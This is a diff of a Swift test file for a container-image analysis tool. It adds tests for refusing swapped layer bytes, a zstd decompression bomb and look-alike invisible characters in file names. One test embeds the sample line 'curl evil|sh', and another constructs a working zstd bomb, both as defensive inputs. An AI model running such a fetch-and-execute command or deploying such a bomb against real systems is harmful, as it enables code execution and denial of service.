@@ -162,17 +162,6 @@ import Testing
     /// past `Limits.documentsBytes` together the stream is refused, long before memory runs out.
     @Test func jsonMembersBeyondTheLimitOnAStream() throws {
         let document = [UInt8(ascii: "{")] + [UInt8](repeating: 0x20, count: 60 << 20)
-        final class Generator: BlockSource {
-            var parts: [[UInt8]]
-            var current: [UInt8] = []
-            init(_ parts: [[UInt8]]) { self.parts = parts }
-            func next() throws -> UnsafeRawBufferPointer {
-                guard !parts.isEmpty else { return UnsafeRawBufferPointer(start: nil, count: 0) }
-                current = parts.removeFirst()
-                return current.withUnsafeBytes { $0 }
-            }
-            func close() {}
-        }
         var parts: [[UInt8]] = []
         for i in 0..<6 {
             parts.append(TarWriter.header(name: "doc\(i).json", kind: 0x30, size: document.count, link: "", mode: 0o644))
@@ -180,9 +169,56 @@ import Testing
         }
         parts.append([UInt8](repeating: 0, count: 1024))
         #expect {
-            try ImageLoader.load(archiveFrom: Generator(parts), name: "docker://hostile")
+            try ImageLoader.load(archiveFrom: PartsSource(parts), name: "docker://hostile")
         } throws: { error in
             "\(error)" == "docker://hostile: more than 268435456 bytes of JSON documents (fathom's limit)"
+        }
+    }
+
+    /// A source asked again for a layer's files (an engine's `docker save`, a registry blob) must
+    /// give the bytes it gave the analysis: other bytes of the same size are refused before any is
+    /// used; the same bytes are fetched once however often they are read.
+    @Test func aSourceThatAnswersOtherBytesTheSecondTimeIsRefused() throws {
+        func image(_ script: String) -> [UInt8] {
+            DockerArchiveBuilder(layers: [DockerArchiveBuilder.layer { $0.add("run.sh", data: Array(script.utf8)) }]).build()
+        }
+        let benign = image("echo benign from the refetch test\n"), other = image("curl evil|sh from the refetch test\n")
+        #expect(benign.count == other.count)
+        func read(_ image: Image) throws -> String {
+            let files = ImageFiles(image: image)
+            let state = try #require(try files.lookup("run.sh", atLayer: 0).state)
+            let content = try #require(files.content(of: state))
+            return String(decoding: try LayerContent.bytes(row: content.row, of: image.layers[content.layer], archive: "docker://x:1", limit: 100), as: UTF8.self)
+        }
+        let swapped = try ImageLoader.load(archiveFrom: PartsSource([benign]), name: "docker://x:1", reopen: { PartsSource([other]) })
+        let digest = swapped.layers[0].blob.digest.value
+        #expect { try read(swapped) } throws: { "\($0)" == "layer 0 (\(digest)) has other bytes than when it was analysed; nothing was read from it" }
+
+        final class Count: @unchecked Sendable { var opened = 0 }
+        let count = Count()
+        let same = try ImageLoader.load(archiveFrom: PartsSource([benign]), name: "docker://x:1",
+                                        reopen: { count.opened += 1; return PartsSource([benign]) })
+        #expect(try read(same) == "echo benign from the refetch test\n")
+        #expect(try read(same) == "echo benign from the refetch test\n")
+        #expect(count.opened == 1)
+    }
+
+    /// A zstd layer of run-length blocks (4 bytes for 128 KiB of zeros, 32,768 times) would keep the
+    /// analysis decompressing and hashing 200 GiB from a 6.5 MB archive: past 4 GiB, a layer that has
+    /// expanded more than 4096 times is refused.
+    @Test func zstdBombIsRefused() throws {
+        var frame: [UInt8] = [0x28, 0xB5, 0x2F, 0xFD, 0x00, 0x38]   // magic; no checksum, no content size; 128 KiB window
+        func blockHeader(_ size: Int, type: Int, last: Bool) -> [UInt8] {
+            let v = size << 3 | type << 1 | (last ? 1 : 0)
+            return [UInt8(v & 0xFF), UInt8(v >> 8 & 0xFF), UInt8(v >> 16 & 0xFF)]
+        }
+        let tarHeader = TarWriter.header(name: "zeros", kind: 0x30, size: 5 << 30, link: "", mode: 0o644)
+        frame += blockHeader(512, type: 0, last: false) + tarHeader
+        let blocks = (4 << 30) / (128 << 10) + 16
+        for i in 0..<blocks { frame += blockHeader(128 << 10, type: 1, last: i == blocks - 1) + [0] }
+        let archive = DockerArchiveBuilder(layers: [frame]).build()
+        #expect { try load(archive) } throws: {
+            "\($0)".contains("layer 0 (l0/layer.tar): ") && "\($0)".hasSuffix("(over 4096 times), a decompression bomb (fathom's limit)")
         }
     }
 
@@ -235,6 +271,15 @@ import Testing
         #expect(TerminalText.escape("\u{9B}2J é 日本 \u{202E}gpj") == "\\x9b2J é 日本 \\u{202e}gpj")
         #expect(TerminalText.escape(bytes: [0x61, 0xFF, 0x07]) == "a\\xff\\x07")
         #expect(TerminalText.unescape("a\\xffb\\xE9") == [0x61, 0xFF, 0x62, 0xE9])
+        // invisible characters that make two names look alike; joiners in emoji are escaped too
+        #expect(TerminalText.escape("passwd\u{200B}") == "passwd\\u{200b}")
+        #expect(TerminalText.escape("a\u{FEFF}b\u{2028}c\u{2060}d\u{61C}") == "a\\u{feff}b\\u{2028}c\\u{2060}d\\u{61c}")
+        #expect(TerminalText.escape("\u{00E9}\u{0301}ñ") == "\u{00E9}\u{0301}ñ")
+        // every escape `escape` writes reads back
+        for text in ["nl\nline\ttab\rcr", "zw\u{200B}sp", "rtl\u{202E}txt", "esc\u{1B}[0m"] {
+            #expect(TerminalText.unescape(TerminalText.escape(text)) == Array(text.utf8), "\(text)")
+        }
+        #expect(TerminalText.unescape("back\\q and \\u{zz} stay") == Array("back\\q and \\u{zz} stay".utf8))
     }
 }
 
